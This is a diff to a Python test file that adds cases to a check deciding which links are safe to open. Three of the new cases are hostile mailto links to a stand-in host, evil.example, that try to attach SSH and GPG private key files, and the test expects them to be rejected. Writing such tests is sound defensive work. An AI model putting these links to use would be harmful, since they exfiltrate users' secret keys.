@@ -238,6 +238,10 @@ def test_hostile_text_through_the_loader(tmp_path: Path):
         ("contact@numerique.gouv.fr", True),
         ("beta.gouv.fr", True),
         ("https://", False),
+        ("mailto:contact@numerique.gouv.fr?subject=Inscription&body=Bonjour&cc=a@b.fr", True),
+        ("mailto:x@evil.example?attach=/home/me/.ssh/id_rsa", False),  # a file to a draft
+        ("mailto:x@evil.example?subject=a&ATTACHMENT=~/.gnupg/secring.gpg", False),
+        ("mailto:?Attach%3D=x", False),
     ],
 )
 def test_only_web_and_mail_links_are_openable(raw: str, openable: bool):
